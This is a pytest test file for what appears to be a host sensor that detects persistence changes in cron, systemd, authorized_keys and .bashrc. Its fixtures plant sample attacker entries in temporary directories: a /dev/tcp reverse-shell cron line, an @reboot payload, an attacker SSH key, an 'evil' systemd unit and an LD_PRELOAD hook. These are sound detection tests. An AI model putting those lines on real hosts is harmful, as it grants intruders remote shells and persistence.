"""Persistence paths: cron files, systemd links and authorized_keys, with a baseline on disk."""

from __future__ import annotations

import hashlib
import os

import pytest

from vigil.sensor.guest.collectors import CollectorContext
from vigil.sensor.guest.collectors.persistence import PersistenceCollector
from vigil.sensor.guest.state import StateDir


@pytest.fixture
def system(tmp_path):
    root = tmp_path / "root"
    (root / "etc/cron.d").mkdir(parents=True)
    (root / "etc/systemd/system/multi-user.target.wants").mkdir(parents=True)
    (root / "etc/crontab").write_text("17 * * * * root cd / && run-parts --report /etc/cron.hourly\n")
    (root / "etc/cron.d/e2scrub_all").write_text("30 3 * * 0 root test -e /run/systemd/system\n")
    home = tmp_path / "home/alice"
    (home / ".ssh").mkdir(parents=True)
    (home / ".bashrc").write_text("alias ll='ls -l'\n")
    passwd = tmp_path / "passwd"
    passwd.write_text(
        f"root:x:0:0:root:{tmp_path}/rootshome:/bin/bash\n"
        f"alice:x:1000:1000::{home}:/bin/bash\n"
        "daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n"
    )
    return root, home, passwd


def _collector(tmp_path, system) -> PersistenceCollector:
    root, _, passwd = system
    state = StateDir(tmp_path / "state")
    state.ensure()
    context = CollectorContext(
        state=state,
        passwd_path=str(passwd),
        persistence_paths=[
            str(root / "etc/crontab"),
            str(root / "etc/cron.d"),
            str(root / "etc/systemd/system"),
        ],
    )
    return PersistenceCollector(context)


def _collect(collector):
    events = collector.collect()
    collector.commit()
    return events


def test_first_run_is_a_silent_baseline_then_changes_are_events(tmp_path, system):
    root, home, _ = system
    collector = _collector(tmp_path, system)
    assert _collect(collector) == []
    assert _collect(collector) == []

    cron = root / "etc/cron.d/backdoor"
    cron.write_text("* * * * * root bash -c 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'\n")
    (event,) = _collect(collector)
    assert event["kind"] == "persistence_created"
    assert event["path"] == str(cron)
    assert event["data"]["sha256"] == hashlib.sha256(cron.read_bytes()).hexdigest()
    assert event["data"]["added_lines"] == [cron.read_text().rstrip("\n")]

    with open(cron, "a") as handle:
        handle.write("@reboot root /tmp/.x/run\n")
    (event,) = _collect(collector)
    assert event["kind"] == "persistence_modified"
    assert event["data"]["added_lines"] == ["@reboot root /tmp/.x/run"]
    assert event["data"]["removed_lines"] == []
    assert event["data"]["changes"] == ["content"]
    assert "+@reboot root /tmp/.x/run" in event["data"]["diff"]

    os.chmod(cron, 0o600)
    (event,) = _collect(collector)
    assert event["data"]["changes"] == ["mode"]
    assert (event["data"]["old_mode"], event["data"]["mode"]) == ("0644", "0600")

    os.utime(cron, (1, 1))  # touched, not changed: nothing to report
    assert _collect(collector) == []

    cron.unlink()
    (event,) = _collect(collector)
    assert (event["kind"], event["path"]) == ("persistence_deleted", str(cron))


def test_authorized_keys_and_enabled_units(tmp_path, system):
    root, home, _ = system
    collector = _collector(tmp_path, system)
    _collect(collector)
    keys = home / ".ssh/authorized_keys"
    keys.write_text("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAttackerKey attacker@evil\n")
    unit = root / "etc/systemd/system/evil.service"
    unit.write_text("[Service]\nExecStart=/tmp/.x/run\n")
    link = root / "etc/systemd/system/multi-user.target.wants/evil.service"
    link.symlink_to(unit)
    events = {e["path"]: e for e in _collect(collector)}
    assert set(events) == {str(keys), str(unit), str(link)}
    assert events[str(keys)]["data"]["added_lines"] == [keys.read_text().strip()]
    assert events[str(link)]["data"]["link_target"] == str(unit)
    assert events[str(link)]["data"]["type"] == "link"
    assert all(e["kind"] == "persistence_created" for e in events.values())


def test_baseline_survives_a_restart_and_reports_what_changed_while_down(tmp_path, system):
    root, home, _ = system
    _collect(_collector(tmp_path, system))
    with open(home / ".bashrc", "a") as handle:
        handle.write("export LD_PRELOAD=/tmp/.x/hook.so\n")
    restarted = _collector(tmp_path, system)
    (event,) = _collect(restarted)
    assert event["kind"] == "persistence_modified"
    assert event["data"]["added_lines"] == ["export LD_PRELOAD=/tmp/.x/hook.so"]
    assert _collect(_collector(tmp_path, system)) == []  # reported once, not again


def test_a_change_not_committed_is_reported_again(tmp_path, system):
    root, _, _ = system
    collector = _collector(tmp_path, system)
    _collect(collector)
    (root / "etc/cron.d/job").write_text("* * * * * root true\n")
    first = collector.collect()  # the spool failed: no commit
    second = collector.collect()
    assert [e["path"] for e in first] == [e["path"] for e in second]
